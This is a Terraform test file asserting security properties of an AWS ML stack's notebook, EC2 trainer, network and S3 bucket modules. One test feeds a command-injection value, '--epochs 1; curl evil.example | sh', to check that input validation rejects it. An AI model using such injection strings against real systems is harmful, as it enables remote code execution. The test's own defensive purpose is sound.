# Notebook, training role, EC2 trainer, data bucket and the network's workload security group contracts.
mock_provider "aws" {
  source = "./tests/mocks"
}

variables {
  name                = "dogbreed-notebook"
  job_name_prefix     = "dogbreed"
  subnet_id           = "subnet-0123456789abcdef0"
  security_group_ids  = ["sg-0123456789abcdef0"]
  kms_key_arn         = "arn:aws:kms:eu-west-1:123456789012:key/11111111-2222-3333-4444-555555555555"
  kms_key_project_tag = "dogbreed"
  bucket_name         = "dogbreed-123456789012-eu-west-1"
  training_role_arn   = "arn:aws:iam::123456789012:role/dogbreed-sagemaker-training"
  # network module: the project bucket its S3 gateway endpoint admits
  s3_endpoint_bucket_arns = ["arn:aws:s3:::dogbreed-123456789012-eu-west-1"]

  training_subnet_ids         = ["subnet-0aaa1111", "subnet-0bbb2222"]
  training_security_group_ids = ["sg-0ccc3333"]
}

run "notebook_is_private_and_locked_down" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  assert {
    condition     = aws_sagemaker_notebook_instance.this.instance_type == "ml.t3.medium"
    error_message = "The notebook must default to ml.t3.medium."
  }
  assert {
    condition     = aws_sagemaker_notebook_instance.this.direct_internet_access == "Disabled"
    error_message = "Direct internet access must be Disabled."
  }
  assert {
    condition     = aws_sagemaker_notebook_instance.this.root_access == "Disabled"
    error_message = "Root access must be Disabled."
  }
  assert {
    condition     = aws_sagemaker_notebook_instance.this.subnet_id == var.subnet_id && aws_sagemaker_notebook_instance.this.kms_key_id == var.kms_key_arn
    error_message = "The notebook must sit in the given subnet and use the project key."
  }
  assert {
    condition     = aws_sagemaker_notebook_instance.this.instance_metadata_service_configuration[0].minimum_instance_metadata_service_version == "2"
    error_message = "The notebook must require IMDSv2."
  }
  assert {
    condition     = strcontains(base64decode(aws_sagemaker_notebook_instance_lifecycle_configuration.this.on_start), "stop-when-idle.py 60")
    error_message = "The lifecycle configuration must stop the instance after 60 idle minutes by default."
  }
}

run "notebook_passes_only_the_training_role" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  assert {
    condition     = [for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s if s.Action == "iam:PassRole"][0].Resource == var.training_role_arn
    error_message = "iam:PassRole must name only the training role."
  }
  assert {
    condition     = [for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s if s.Action == "iam:PassRole"][0].Condition.StringEquals["iam:PassedToService"] == "sagemaker.amazonaws.com"
    error_message = "The training role may be passed to SageMaker only."
  }
  assert {
    condition = alltrue([for s in jsondecode(aws_iam_role_policy.this.policy).Statement :
    alltrue([for r in flatten([s.Resource]) : r != "*"]) || can(s.Condition)])
    error_message = "The notebook policy may use Resource \"*\" only under a condition (Service Quotas' list actions have no resource type)."
  }
  assert {
    condition = alltrue([for s in jsondecode(aws_iam_role_policy.this.policy).Statement :
      contains(flatten([s.Resource]), "arn:aws:sagemaker:eu-west-1:123456789012:training-job/dogbreed-*")
    if contains(flatten([s.Action]), "sagemaker:CreateTrainingJob")])
    error_message = "Training jobs must be limited to <job_name_prefix>-*."
  }
}

run "notebook_creates_jobs_only_in_the_stack_network_with_its_keys" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  assert {
    condition = length([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s
      if contains(flatten([s.Action]), "sagemaker:CreateTrainingJob")
      && jsonencode(try(s.Condition["ForAllValues:StringEquals"]["sagemaker:VpcSubnets"], null)) == jsonencode(var.training_subnet_ids)
      && jsonencode(try(s.Condition["ForAllValues:StringEquals"]["sagemaker:VpcSecurityGroupIds"], null)) == jsonencode(var.training_security_group_ids)
      && try(s.Condition.Null["sagemaker:VpcSubnets"], null) == "false"
      && try(s.Condition.Bool["sagemaker:InterContainerTrafficEncryption"], null) == "true"
    && try(s.Condition.ArnEquals["sagemaker:OutputKmsKey"], null) == var.kms_key_arn]) == 2
    error_message = "Both job-creation statements must pin the subnets, security groups, traffic encryption and output key."
  }
  assert {
    condition = alltrue([for s in jsondecode(aws_iam_role_policy.this.policy).Statement :
    !contains(flatten([s.Action]), "sagemaker:AddTags") || length(flatten([s.Action])) == 1])
    error_message = "sagemaker:AddTags must stay in its own statement: its requests carry none of the job keys."
  }
  assert {
    condition     = strcontains(base64decode(aws_sagemaker_notebook_instance_lifecycle_configuration.this.on_start), "\"training_subnet_ids\":[\"subnet-0aaa1111\",\"subnet-0bbb2222\"]")
    error_message = "The lifecycle configuration must hand the kernel the stack's training network."
  }
}

run "notebook_rejects_an_instance_type_in_both_kms_classes" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  variables {
    training_instance_types = { ebs_only = ["ml.g5.*"], local_storage = ["ml.g5.*"] }
  }

  expect_failures = [var.training_instance_types]
}

run "notebook_rejects_jobs_outside_a_subnet" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  variables {
    training_subnet_ids = []
  }

  expect_failures = [var.training_subnet_ids]
}

run "rejects_upper_case_job_prefix" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  variables {
    job_name_prefix = "DogBreed"
  }

  expect_failures = [var.job_name_prefix]
}

run "notebook_uses_the_given_security_groups" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  assert {
    condition     = aws_sagemaker_notebook_instance.this.security_groups == toset(var.security_group_ids)
    error_message = "The notebook must use exactly the security groups it is given."
  }
}

run "notebook_rejects_missing_security_groups" {
  command = plan

  module {
    source = "./modules/notebook"
  }

  variables {
    security_group_ids = []
  }

  expect_failures = [var.security_group_ids]
}

run "ec2_trainer_is_a_hardened_launch_template_and_no_instance" {
  command = plan

  module {
    source = "./modules/ec2_trainer"
  }

  variables {
    name               = "dogbreed"
    user_data_template = "../ec2/user_data.sh.tftpl"
    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
    train_args         = "--epochs 10 --batch-size 64"
    use_spot           = true
  }

  assert {
    condition     = aws_launch_template.this.instance_type == "g4dn.xlarge" && aws_launch_template.this.instance_initiated_shutdown_behavior == "terminate"
    error_message = "The trainer must default to g4dn.xlarge and terminate on shutdown."
  }
  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_tokens == "required" && aws_launch_template.this.metadata_options[0].instance_metadata_tags == "enabled"
    error_message = "The trainer must require IMDSv2 and expose its tags (the RunId) through IMDS."
  }
  assert {
    condition     = aws_launch_template.this.block_device_mappings[0].ebs[0].encrypted == "true" && aws_launch_template.this.block_device_mappings[0].ebs[0].kms_key_id == var.kms_key_arn
    error_message = "The root volume must be encrypted with the project key."
  }
  assert {
    condition     = aws_launch_template.this.network_interfaces[0].associate_public_ip_address == "false" && aws_launch_template.this.network_interfaces[0].subnet_id == var.subnet_id
    error_message = "The trainer must sit in the given private subnet without a public IP."
  }
  assert {
    condition     = aws_launch_template.this.instance_market_options[0].market_type == "spot" && aws_launch_template.this.instance_market_options[0].spot_options[0].spot_instance_type == "one-time"
    error_message = "use_spot must request one-time spot instances (a persistent request relaunches a finished run)."
  }
  assert {
    condition     = length(data.aws_ssm_parameter.dlami) == 1
    error_message = "Without ami_id the Deep Learning AMI must be resolved through SSM."
  }
  assert {
    condition = alltrue([for fragment in ["s3://dogbreed-123456789012-eu-west-1/code/", "s3://dogbreed-123456789012-eu-west-1/data/dogImages/", "s3://dogbreed-123456789012-eu-west-1/weights/", "s3://dogbreed-123456789012-eu-west-1/ec2-runs/", base64encode("--epochs 10 --batch-size 64")] :
    strcontains(base64decode(aws_launch_template.this.user_data), fragment)])
    error_message = "The user data must be rendered with code_s3_uri, data_s3_uri, weights_s3_uri, output_s3_uri and train_args."
  }
}

run "ec2_trainer_uses_an_explicit_ami" {
  command = plan

  module {
    source = "./modules/ec2_trainer"
  }

  variables {
    name               = "dogbreed"
    ami_id             = "ami-0123456789abcdef0"
    user_data_template = "../ec2/user_data.sh.tftpl"
    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
  }

  assert {
    condition     = length(data.aws_ssm_parameter.dlami) == 0 && aws_launch_template.this.image_id == "ami-0123456789abcdef0"
    error_message = "ami_id must override the SSM lookup."
  }
}

run "ec2_trainer_rejects_shell_metacharacters_in_train_args" {
  command = plan

  module {
    source = "./modules/ec2_trainer"
  }

  variables {
    name               = "dogbreed"
    user_data_template = "../ec2/user_data.sh.tftpl"
    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
    train_args         = "--epochs 1; curl evil.example | sh"
  }

  expect_failures = [var.train_args]
}

run "ec2_trainer_rejects_missing_security_groups" {
  command = plan

  module {
    source = "./modules/ec2_trainer"
  }

  variables {
    name               = "dogbreed"
    user_data_template = "../ec2/user_data.sh.tftpl"
    data_s3_uri        = "s3://dogbreed-123456789012-eu-west-1/data/dogImages/"
    security_group_ids = []
  }

  expect_failures = [var.security_group_ids]
}

run "network_workload_groups_have_no_inbound_and_https_only_out" {
  command = plan

  module {
    source = "./modules/network"
  }

  variables {
    name = "dogbreed"
    workload_security_groups = {
      notebook = {
        name        = "dogbreed-notebook-notebook"
        description = "Notebook instance: no inbound, HTTPS out to VPC endpoints and S3 only"
      }
      training-jobs = {
        description         = "SageMaker training jobs: all traffic within the group, HTTPS out to VPC endpoints and S3"
        enable_self_traffic = true
      }
    }
  }

  assert {
    condition     = aws_security_group.workload["notebook"].name == "dogbreed-notebook-notebook" && aws_security_group.workload["training-jobs"].name == "dogbreed-training-jobs"
    error_message = "A workload group must take its given name, else <name>-<key>."
  }
  assert {
    condition = alltrue([for rule in concat(values(aws_vpc_security_group_egress_rule.workload_https_to_vpc_endpoints), values(aws_vpc_security_group_egress_rule.workload_https_to_s3)) :
    rule.ip_protocol == "tcp" && rule.from_port == 443 && rule.to_port == 443])
    error_message = "Workload groups may send only HTTPS (tcp/443) to the endpoints and S3."
  }
  assert {
    condition     = alltrue([for rule in values(aws_vpc_security_group_egress_rule.workload_https_to_vpc_endpoints) : rule.cidr_ipv4 == "10.42.0.0/16"])
    error_message = "HTTPS to the interface endpoints must be limited to the VPC's CIDR."
  }
  assert {
    condition     = keys(aws_vpc_security_group_egress_rule.workload_https_to_s3) == ["notebook", "training-jobs"]
    error_message = "Every workload group must reach S3 through the gateway endpoint."
  }
  assert {
    condition     = keys(aws_vpc_security_group_ingress_rule.workload_self) == ["training-jobs"] && keys(aws_vpc_security_group_egress_rule.workload_self) == ["training-jobs"]
    error_message = "Only workloads with enable_self_traffic may talk among themselves, and they have no other inbound rule."
  }
  assert {
    condition     = aws_vpc_security_group_ingress_rule.workload_self["training-jobs"].ip_protocol == "-1" && aws_vpc_security_group_egress_rule.workload_self["training-jobs"].ip_protocol == "-1"
    error_message = "Members of a multi-node workload's group must reach each other on all traffic."
  }
  assert {
    condition     = length(output.security_group_ids) == 2
    error_message = "The module must output one security group id per workload."
  }
}

run "network_rejects_a_security_group_name_starting_with_sg" {
  command = plan

  module {
    source = "./modules/network"
  }

  variables {
    name = "dogbreed"
    workload_security_groups = {
      notebook = { name = "sg-notebook", description = "Notebook instance" }
    }
  }

  expect_failures = [var.workload_security_groups]
}

run "data_bucket_is_private_encrypted_and_versioned" {
  command = plan

  module {
    source = "./modules/data_bucket"
  }

  variables {
    name = "dogbreed"
  }

  assert {
    condition     = aws_s3_bucket.this.bucket == "dogbreed-123456789012-eu-west-1"
    error_message = "The bucket name must be <name>-<account>-<region>."
  }
  assert {
    condition     = aws_s3_bucket_versioning.this.versioning_configuration[0].status == "Enabled"
    error_message = "Versioning must be enabled."
  }
  assert {
    condition     = one(aws_s3_bucket_server_side_encryption_configuration.this.rule).apply_server_side_encryption_by_default[0].sse_algorithm == "aws:kms"
    error_message = "The bucket must use SSE-KMS."
  }
  assert {
    condition = (aws_s3_bucket_public_access_block.this.block_public_acls && aws_s3_bucket_public_access_block.this.block_public_policy
    && aws_s3_bucket_public_access_block.this.ignore_public_acls && aws_s3_bucket_public_access_block.this.restrict_public_buckets)
    error_message = "All four public access blocks must be on."
  }
  assert {
    condition     = jsondecode(aws_s3_bucket_policy.this.policy).Statement[0].Condition.Bool["aws:SecureTransport"] == "false" && jsondecode(aws_s3_bucket_policy.this.policy).Statement[0].Effect == "Deny"
    error_message = "The bucket policy must deny requests without TLS."
  }
  assert {
    condition     = aws_kms_key.this.enable_key_rotation
    error_message = "The customer key must rotate."
  }
}

run "network_endpoints_admit_only_the_project_bucket_and_this_account" {
  command = plan

  module {
    source = "./modules/network"
  }

  variables {
    name = "dogbreed"
  }

  assert {
    condition = [for s in jsondecode(aws_vpc_endpoint.s3.policy).Statement : s.Resource if s.Sid == "ThisAccountsPrincipalsReachOnlyTheProjectBuckets"][0] == [
      "arn:aws:s3:::dogbreed-123456789012-eu-west-1", "arn:aws:s3:::dogbreed-123456789012-eu-west-1/*"
    ]
    error_message = "The S3 gateway endpoint must admit this account's principals to the project bucket only."
  }
  assert {
    condition     = alltrue([for arn in [for s in jsondecode(aws_vpc_endpoint.s3.policy).Statement : s.Resource if s.Sid == "AnyoneReadsOnlyTheseAwsOwnedBucketsAgentsAndPackageManagersFetchFrom"][0] : startswith(arn, "arn:aws:s3:::") && endswith(arn, "/*") && strcontains(arn, "eu-west-1")])
    error_message = "AWS-owned buckets must be named per region and read-only."
  }
  assert {
    condition     = alltrue([for endpoint in values(aws_vpc_endpoint.interface) : jsondecode(endpoint.policy).Statement[0].Condition.StringEquals["aws:PrincipalAccount"] == "123456789012"])
    error_message = "Every interface endpoint must admit only this account's principals."
  }
  assert {
    condition     = jsondecode(aws_iam_role.flow_logs.assume_role_policy).Statement[0].Condition.ArnLike["aws:SourceArn"] == "arn:aws:ec2:eu-west-1:123456789012:vpc-flow-log/*"
    error_message = "The flow-logs role must trust only this account's flow logs (aws:SourceArn)."
  }
}

run "data_bucket_key_and_bucket_policy_scope_logs_and_code_writers" {
  command = plan

  module {
    source = "./modules/data_bucket"
  }

  variables {
    name               = "dogbreed"
    log_group_names    = ["/aws/lambda/dogbreed-predict", "/vpc/dogbreed/flow-logs"]
    prefix_writer_arns = { "code/" = ["arn:aws:iam::123456789012:role/dogbreed-github-apply"] }
  }

  assert {
    condition = [for s in jsondecode(aws_kms_key.this.policy).Statement : s.Condition.ArnEquals["kms:EncryptionContext:aws:logs:arn"] if startswith(s.Sid, "CloudWatchLogs")][0] == [
      "arn:aws:logs:eu-west-1:123456789012:log-group:/aws/lambda/dogbreed-predict", "arn:aws:logs:eu-west-1:123456789012:log-group:/vpc/dogbreed/flow-logs"
    ]
    error_message = "The key's Logs statement must name exactly the stack's log groups."
  }
  assert {
    condition     = [for s in jsondecode(aws_s3_bucket_policy.this.policy).Statement : s.Resource if s.Sid == "OnlyTheNamedWritersChangeCode"] == ["arn:aws:s3:::dogbreed-123456789012-eu-west-1/code/*"]
    error_message = "The bucket policy must protect code/."
  }
}

run "data_bucket_without_log_groups_has_no_logs_statement" {
  command = plan

  module {
    source = "./modules/data_bucket"
  }

  variables {
    name                = "dogbreed-tfstate"
    write_once_prefixes = []
  }

  assert {
    condition     = length([for s in jsondecode(aws_kms_key.this.policy).Statement : s if startswith(s.Sid, "CloudWatchLogs")]) == 0 && length(jsondecode(aws_s3_bucket_policy.this.policy).Statement) == 1
    error_message = "Without log groups or protected prefixes the key and bucket policies must not grant Logs or deny writers."
  }
}

run "data_bucket_rejects_wildcard_log_groups" {
  command = plan

  module {
    source = "./modules/data_bucket"
  }

  variables {
    name            = "dogbreed"
    log_group_names = ["/aws/lambda/*"]
  }

  expect_failures = [var.log_group_names]
}
